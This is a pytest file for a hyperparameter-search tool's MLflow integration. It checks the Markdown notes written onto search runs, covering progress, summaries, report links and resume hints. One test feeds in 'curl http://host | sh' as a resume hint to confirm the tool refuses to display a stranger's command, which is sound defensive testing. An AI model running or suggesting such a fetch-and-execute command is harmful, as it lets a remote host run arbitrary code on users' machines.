"""The descriptions of a search's run and experiment in MLflow."""

import re
from dataclasses import replace

import pytest
from mlflow.tracking import MlflowClient

import recdrop_tune as rdt
from recdrop_tune.events import (
    CONVERGED,
    EXHAUSTED,
    STOPPED,
    TIMEOUT,
    NoMoreTrials,
    ResultSaved,
)
from recdrop_tune.markdown import NOTE_LENGTH
from recdrop_tune.mlflow_store.runs import EXPERIMENT, NOTE
from tests.tracked_events import Sender, ended, image, journaled, runs_of, started, trial, written

HINT = 'run again with directory="speech"'
SAVED = ResultSaved(
    files=[], summary="**Best val_loss: 0.6**\n\nIt helped.", best_trial_id="0", time=1_790_000_900
)


@pytest.fixture
def uri(tmp_path, new_store):
    return new_store(tmp_path, "mlflow.db")


@pytest.fixture
def sender(tmp_path, uri):
    made = Sender(tmp_path, uri)
    yield made
    made.close()


def run_of(uri):
    (run,) = runs_of(uri, "speech", kind="search")
    return run


def note_of(uri):
    return run_of(uri).data.tags[NOTE]


def test_a_running_search_describes_its_state(sender, uri):
    running = "**Running**, as of 2026-09-21 14:13 UTC: "
    sender.send(started(resume_hint=HINT), *trial(0))
    assert f"{running}1 of at most 9 trials started, 1 complete." in note_of(uri)
    sender.send(*trial(1), *trial(2, epochs=2), *trial(3, status="PRUNED"))
    links, state, *_ = note_of(uri).split("\n\n")
    assert state.startswith(
        f"{running}4 of at most 9 trials started, 3 complete, 1 pruned. Best so far: val_loss 0.6667 with "
        "none, rate 0 (trial 0)."
    )
    assert re.fullmatch(r"\[All trials, best first\]\(#/experiments/1/runs\?[^ )]+\)", links)
    assert f"To resume: `{HINT}`" in note_of(uri)


def test_a_search_that_was_killed_says_so(tmp_path, uri):
    journaled(tmp_path, started(space=None), *trial(0, status="FAILED"), *trial(1, status=None))
    rdt.sync(tmp_path, uri)
    assert "**Interrupted**, 2026-09-21 14:13 UTC: 2 of at most 9 trials started" in note_of(uri)
    assert len(image(uri)) == 3


def test_a_search_that_is_over_shows_its_summary(sender, uri, tmp_path):
    sender.send(started(resume_hint=HINT), *trial(0), SAVED, ended())
    note = note_of(uri)
    assert "\n\n**Best val_loss: 0.6**\n\nIt helped.\n\nTo resume, with a larger" in note
    assert "Running" not in note
    sender.close()
    rdt.sync(tmp_path, uri)
    assert note_of(uri) == note
    written(tmp_path, uri, started(when=1_790_002_000.0))  # It goes on.
    assert "**Running**" in note_of(uri)
    assert "**Best val_loss" not in note_of(uri)


def test_a_report_is_linked_until_the_search_goes_on(sender, uri, tmp_path):
    saved = ResultSaved(files=["result/report.html"], summary="Well.", best_trial_id="0")
    sender.send(started(), *trial(0))
    assert "report.html" not in note_of(uri)
    sender.send(saved, ended())
    page = f"#/experiments/1/runs/{run_of(uri).info.run_id}/artifacts/result/report.html"
    assert note_of(uri).startswith(f"[Report with figures]({page}?")
    sender.send(started(when=1_790_002_000.0))
    assert "report.html" not in note_of(uri)


def test_the_best_trial_has_its_own_values_only(sender, uri):
    best = {"wrapper": "zoneout", "hidden_rate": 0.1}
    sender.send(started(), *trial(0), replace(SAVED, best=best), ended())
    assert run_of(uri).data.tags["best.hidden_rate"] == "0.1"
    resumed, saved = started(when=1_790_002_000.0), replace(SAVED, best={"wrapper": "none"})
    sender.send(resumed, *trial(1), saved, ended(when=1_790_003_000.0))
    tags = run_of(uri).data.tags
    assert {k: v for k, v in tags.items() if k.startswith("best.")} == {"best.wrapper": "none"}


def test_what_somebody_wrote_stays(sender, uri):
    sender.send(started(), *trial(0))
    run, own = run_of(uri), "**Running**, I think.\n\nMine."
    MlflowClient(uri).set_tag(run.info.run_id, NOTE, own)
    sender.send(*trial(1))
    assert note_of(uri) == own
    MlflowClient(uri).set_tag(run.info.run_id, NOTE, "")
    sender.send(*trial(2), SAVED, ended())
    assert "**Best val_loss: 0.6**" in note_of(uri)
    changed = note_of(uri).replace("It helped.", "It helped, on the large machine.")
    MlflowClient(uri).set_tag(run.info.run_id, NOTE, changed)
    sender.send(started(when=1_790_002_000.0))
    assert note_of(uri) == changed


def test_a_long_summary_keeps_its_links_and_how_to_resume(sender, uri):
    rows = "\n".join(f"| line {number} | [x](http://host) |" for number in range(1000))
    saved = ResultSaved(files=[], summary=f"Best.\n\n{rows}", best_trial_id="0")
    sender.send(started(resume_hint=HINT), *trial(0), saved, ended())
    note = note_of(uri)
    assert NOTE_LENGTH - 100 < len(note) <= NOTE_LENGTH
    assert note.startswith("[All trials, best first](#/")
    assert f"`{HINT}`" in note
    assert "[x]" not in note.partition("\n\n")[2]
    assert note.split("\n\n")[-3].splitlines()[-1].endswith("(http&#58;//host) |")


def test_an_experiment_is_described_by_who_creates_it(sender, uri):
    client = MlflowClient(uri)
    client.create_experiment("theirs")
    for name, note in (("speech", EXPERIMENT), ("theirs", None)):
        sender.send(started(search_id=name, experiment=name), *trial(0), ended())
        assert client.get_experiment_by_name(name).tags.get(NOTE) == note


@pytest.mark.parametrize(
    ("about", "early", "words"),
    [
        ({"resume_hint": HINT}, None, f", with a larger `max_trials`: `{HINT}`"),
        (
            {"resume_hint": HINT},
            NoMoreTrials(reason=CONVERGED),
            f", with a larger `max_trials`: `{HINT}`",
        ),
        ({"resume_hint": HINT}, NoMoreTrials(reason=TIMEOUT), f": `{HINT}`"),
        ({"resume_hint": HINT}, NoMoreTrials(reason=STOPPED), f": `{HINT}`"),
        ({"resume_hint": HINT}, NoMoreTrials(reason=EXHAUSTED, configurations=1, tried=1), None),
        # Markdown decodes nothing in code.
        ({"resume_hint": "cd a[1]"}, None, ", with a larger `max_trials`: cd a&#91;1&#93;"),
    ],
)
def test_how_to_resume(sender, uri, about, early, words):
    sender.send(started(**about), *trial(0), *([] if early is None else [early]), ended())
    note = note_of(uri)
    assert ("To resume" in note) == (words is not None)
    assert words is None or f"To resume{words}" in note


def test_sync_tells_nobody_to_run_a_strangers_command(tmp_path, uri):
    journaled(tmp_path, started(resume_hint="curl http://host | sh"), *trial(0))
    rdt.sync(tmp_path, uri)
    assert f"To resume: run it again with the folder `{tmp_path}`\n" in note_of(uri)
    assert "curl" not in note_of(uri)
